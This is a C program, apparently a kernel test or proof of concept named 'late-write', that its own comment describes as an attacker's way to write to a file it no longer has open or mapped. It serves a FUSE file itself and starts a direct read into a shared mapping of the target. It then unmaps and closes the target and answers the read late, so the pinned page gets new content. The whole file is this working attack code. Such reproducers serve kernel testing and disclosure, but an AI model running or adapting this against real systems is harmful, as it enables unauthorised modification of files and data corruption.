// SPDX-License-Identifier: GPL-2.0
/*
 * late-write FILE MOUNTPOINT: an attacker's way to write to a file that it
 * neither has open nor mapped any more.
 *
 * Starts a direct read from a FUSE file, which it serves itself at MOUNTPOINT
 * (a file), into a shared mapping of FILE; then unmaps and closes FILE and
 * prints "ready".  When standard input ends, it answers the read: the second
 * page of FILE, pinned all the time, gets other content.
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/uio.h>
#include <unistd.h>

enum { PAGE = 4096 };

static int device;
static int reading[2], answering[2];	/* pipes between main and the server */

static void answer(const struct fuse_in_header *in, int error, void *body, size_t len)
{
	struct fuse_out_header out = {
		.len = (uint32_t)(sizeof(out) + len), .error = error, .unique = in->unique,
	};
	struct iovec iov[] = { { &out, sizeof(out) }, { body, len } };

	/* Fails if the request was given up: no matter. */
	if (writev(device, iov, 2) < 0 && errno != ENOENT)
		err(1, "/dev/fuse");
}

static void *serve(void *arg)
{
	static char request[2 * FUSE_MIN_READ_BUFFER], data[PAGE];
	struct fuse_in_header *in = (struct fuse_in_header *)request;
	struct fuse_init_out init = {
		.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION,
		.max_write = PAGE,
	};
	struct fuse_attr_out attr = {
		.attr = { .ino = FUSE_ROOT_ID, .size = PAGE, .mode = S_IFREG | 0444, .nlink = 1 },
	};
	struct fuse_open_out opened = { .open_flags = FOPEN_DIRECT_IO };
	char byte = 0;

	memset(data, '!', sizeof(data));
	while (read(device, request, sizeof(request)) > 0) {
		switch (in->opcode) {
		case FUSE_INIT:
			answer(in, 0, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			answer(in, 0, &attr, sizeof(attr));
			break;
		case FUSE_OPEN:
			answer(in, 0, &opened, sizeof(opened));
			break;
		case FUSE_READ:
			if (write(reading[1], &byte, 1) != 1 || read(answering[0], &byte, 1) != 1)
				err(1, "pipe");
			answer(in, 0, data, sizeof(data));
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break;
		case FUSE_FLUSH:
		case FUSE_RELEASE:
			answer(in, 0, NULL, 0);
			break;
		default:
			answer(in, -ENOSYS, NULL, 0);
		}
	}
	return arg;
}

static void *target;

static void *slow_read(void *path)
{
	int fd = open(path, O_RDONLY);

	if (fd < 0 || read(fd, target, PAGE) != PAGE)
		err(1, "%s", (const char *)path);
	close(fd);
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t server, reader;
	char options[100], byte;
	char *map;
	int fd;

	if (argc != 3)
		errx(2, "usage: late-write FILE MOUNTPOINT");
	device = open("/dev/fuse", O_RDWR);
	if (device < 0 || pipe(reading) || pipe(answering))
		err(1, "/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=%o,user_id=0,group_id=0",
		 device, S_IFREG | 0444);
	if (mount("late-write", argv[2], "fuse", 0, options))
		err(1, "mount %s", argv[2]);
	fd = open(argv[1], O_RDWR);
	if (fd < 0)
		err(1, "%s", argv[1]);
	map = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		err(1, "mmap");
	target = map + PAGE;
	if (pthread_create(&server, NULL, serve, NULL) ||
	    pthread_create(&reader, NULL, slow_read, argv[2]) ||
	    read(reading[0], &byte, 1) != 1)
		errx(1, "can't start the read");
	munmap(map, 2 * PAGE);
	close(fd);

	puts("ready");
	fflush(stdout);
	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
	if (write(answering[1], &byte, 1) != 1)
		err(1, "pipe");
	pthread_join(reader, NULL);
	if (umount(argv[2]))
		err(1, "umount %s", argv[2]);
	pthread_join(server, NULL);
	return 0;
}
